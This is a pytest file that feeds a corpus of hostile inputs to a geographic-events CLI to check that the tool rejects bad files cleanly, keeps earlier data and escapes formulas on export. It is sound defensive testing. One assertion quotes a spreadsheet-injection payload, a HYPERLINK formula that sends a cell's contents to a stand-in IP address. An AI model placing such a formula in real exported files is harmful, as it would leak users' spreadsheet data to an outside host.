"""The hostile-input corpus (``tests/hostile.py``) through the CLI, as a user would meet it:
each file beside a good one, after earlier work. A kept file stores what it holds; a refused
one is one error naming it; the good file after it is still read; nothing stored before is
lost; no traceback; each in a few seconds."""

from __future__ import annotations

import csv
import time
from pathlib import Path

import pytest
from click.testing import CliRunner

from geo.cli import main
from geo.gazetteer.layers import import_geonames
from geo.store import SQLiteStore
from tests.gazetteer.test_geonames_import import UA_TXT, tiny  # noqa: F401 (a fixture)
from tests.hostile import EXPORT_TARGETS, Hostile, read_by

SECONDS = 30  # for any one file; the slowest (50,000 nested divs) takes about one
GOOD_EVENTS = ("event_id_cnty,event_date,event_type,latitude,longitude,location,notes,fatalities\n"
               "GOOD1,2022-03-05,Battles,49.99,36.23,Kharkiv,Fighting near Kharkiv.,1\n")  # fmt: skip


def ids(cases: list[Hostile]) -> list[str]:
    return [case.name for case in cases]


@pytest.fixture
def cli(index_path, tmp_path):
    runner = CliRunner()
    store = tmp_path / "events.sqlite"

    def invoke(*args: str):
        start = time.perf_counter()
        result = runner.invoke(main, ["--index", str(index_path), "--store", str(store), *args],
                               catch_exceptions=False)  # fmt: skip
        assert time.perf_counter() - start < SECONDS, args
        return result

    invoke.store = store
    return invoke


def hand_over(tmp_path, case: Hostile):
    path = tmp_path / "in" / case.name
    path.parent.mkdir(exist_ok=True)
    path.write_bytes(case.data)
    return path


def errors(result) -> list[str]:
    return [line for line in result.output.splitlines() if line.startswith("Error:")]


def check_outcome(result, case: Hostile, path) -> None:
    """Refused: one error, naming the file and the problem. Kept: no error about it."""
    about = [line for line in errors(result) if case.name in line]
    if case.kept == 0:
        assert result.exit_code == 1
        assert len(about) == 1 and about[0].startswith(f"Error: {path}"), result.output
    if case.says:
        assert case.says in result.output, result.output
    if case.kept and not case.says:
        assert about == [], result.output


@pytest.mark.parametrize("case", read_by("articles"), ids=ids(read_by("articles")))
def test_hostile_articles(cli, tmp_path, case):
    earlier = tmp_path / "earlier.txt"
    earlier.write_text("Talks were held in Gomel on Sunday, officials said.", encoding="utf-8")
    later = tmp_path / "later.txt"
    later.write_text("Russian forces shelled Kramatorsk on Tuesday, killing one person.", encoding="utf-8")
    assert cli("ingest", "--date", "2022-03-01", str(earlier)).exit_code == 0
    path = hand_over(tmp_path, case)
    result = cli("ingest", "--date", "2022-03-07", str(path), str(later))
    check_outcome(result, case, path)
    store = SQLiteStore(cli.store)
    names = sorted(Path(a["path"]).name for a in store.articles())
    assert names == sorted(["earlier.txt", "later.txt", *[case.name] * case.kept])
    if case.kept:  # the hostile article is read for what it says: an event at its town
        places = {e.location for e in store.events()}
        assert "Kramatorsk" in places and len(places) >= 3, places


@pytest.mark.parametrize("case", read_by("events"), ids=ids(read_by("events")))
def test_hostile_event_files(cli, tmp_path, case):
    first = tmp_path / "first.csv"
    first.write_text(GOOD_EVENTS.replace("GOOD1", "FIRST1"), encoding="utf-8")
    assert cli("import", str(first)).exit_code == 0
    path = hand_over(tmp_path, case)
    later = tmp_path / "later.csv"
    later.write_text(GOOD_EVENTS, encoding="utf-8")
    result = cli("import", str(path), str(later))
    check_outcome(result, case, path)
    assert result.output.count("imported") == (1 if case.kept == 0 else 2)
    events = sorted(SQLiteStore(cli.store).events(), key=lambda e: e.id)
    assert len(events) == 2 + case.kept
    assert (events[0].notes, events[-1].notes) == ("Fighting near Kharkiv.", "Fighting near Kharkiv.")
    for event in events:  # whatever is kept is placed on the globe
        assert -90 <= event.latitude <= 90 and -180 <= event.longitude <= 180
        assert event.fatalities is None or 0 <= event.fatalities <= 1_000_000_000


def test_files_sharing_ids_keep_each_others_events(cli, tmp_path):
    """QGIS numbers every layer's features from 1: another file's id 1 is another event."""
    paths = [hand_over(tmp_path, case) for case in read_by("events") if case.name.startswith("qgis")]
    for path in paths:
        assert cli("import", str(path)).exit_code == 0
    assert len(SQLiteStore(cli.store).events()) == 3
    again = cli("import", *map(str, paths))  # and the same files again add nothing
    assert "0 imported, 0 updated, 2 unchanged" in again.output and len(SQLiteStore(cli.store).events()) == 3


def test_an_exported_spreadsheet_runs_no_formula(cli, tmp_path):
    (case,) = [case for case in read_by("events") if case.name == "formulas.csv"]
    assert cli("import", str(hand_over(tmp_path, case))).exit_code == 0
    out = tmp_path / "out.csv"
    assert cli("export", "--out", str(out)).exit_code == 0
    cells = [cell for row in csv.reader(out.open(encoding="utf-8")) for cell in row]
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r") and not _number(cell)]
    assert '\'=HYPERLINK("http://198.51.100.7/"&A1,"x")' in cells and "'@SUM(1+1)" in cells


def _number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


@pytest.mark.parametrize("case", read_by("places"), ids=ids(read_by("places")))
def test_hostile_places_files(cli, tmp_path, case, _private_data_dir):
    assert cli("gazetteer", "add", "--name", "Camp Alpha", "--lat", "50.1", "--lon", "30.2").exit_code == 0
    path = hand_over(tmp_path, case)
    result = cli("gazetteer", "add", "--file", str(path))
    check_outcome(result, case, path)
    listed = cli("gazetteer", "list")
    assert listed.exit_code == 0 and "Camp Alpha" in listed.output
    assert len(listed.output.strip().splitlines()) == 1 + case.kept
    if case.kept:  # Fiji's square straddles 180°: its point is there, not in the Gulf of Guinea
        assert "180.0000" in listed.output or "-180.0000" in listed.output or "179." in listed.output


@pytest.mark.parametrize("case", read_by("geonames"), ids=ids(read_by("geonames")))
def test_hostile_geonames_files(tiny, tmp_path, case):  # noqa: F811 (the fixture)
    path, sources = tiny
    hostile = hand_over(tmp_path, case)
    good = tmp_path / "in" / "BY.txt"
    good.write_text(UA_TXT, encoding="utf-8")
    start = time.perf_counter()
    report = import_geonames([hostile, good], index_path=path, sources=sources)
    assert time.perf_counter() - start < SECONDS
    assert (
        len(report.failures) == 1
        and report.failures[0].startswith(case.name)
        and case.says in report.failures[0]
    )
    assert [done.layer for done in report.imports] == ["BY"] and report.imports[0].added > 0


@pytest.mark.parametrize(("name", "data"), EXPORT_TARGETS, ids=[name for name, _ in EXPORT_TARGETS])
def test_an_export_replaces_no_file_of_the_users(cli, tmp_path, name, data):
    assert cli("import", str(hand_over(tmp_path, read_by("events")[2]))).exit_code == 0
    target = tmp_path / name
    target.write_bytes(data)
    result = cli("export", "--out", str(target))
    assert result.exit_code == 1 and "add --force to replace it" in errors(result)[0]
    assert target.read_bytes() == data
    assert cli("export", "--out", str(target), "--force").exit_code == 0 and target.read_bytes() != data


def test_an_export_never_lands_in_the_data_directory(cli, tmp_path, _private_data_dir):
    assert cli("gazetteer", "add", "--name", "Camp Alpha", "--lat", "50.1", "--lon", "30.2").exit_code == 0
    places = next(_private_data_dir.glob("*.geojson"))
    before = places.read_bytes()
    result = cli("export", "--out", str(places), "--force")
    assert result.exit_code == 1 and "exports never go there" in errors(result)[0]
    assert places.read_bytes() == before
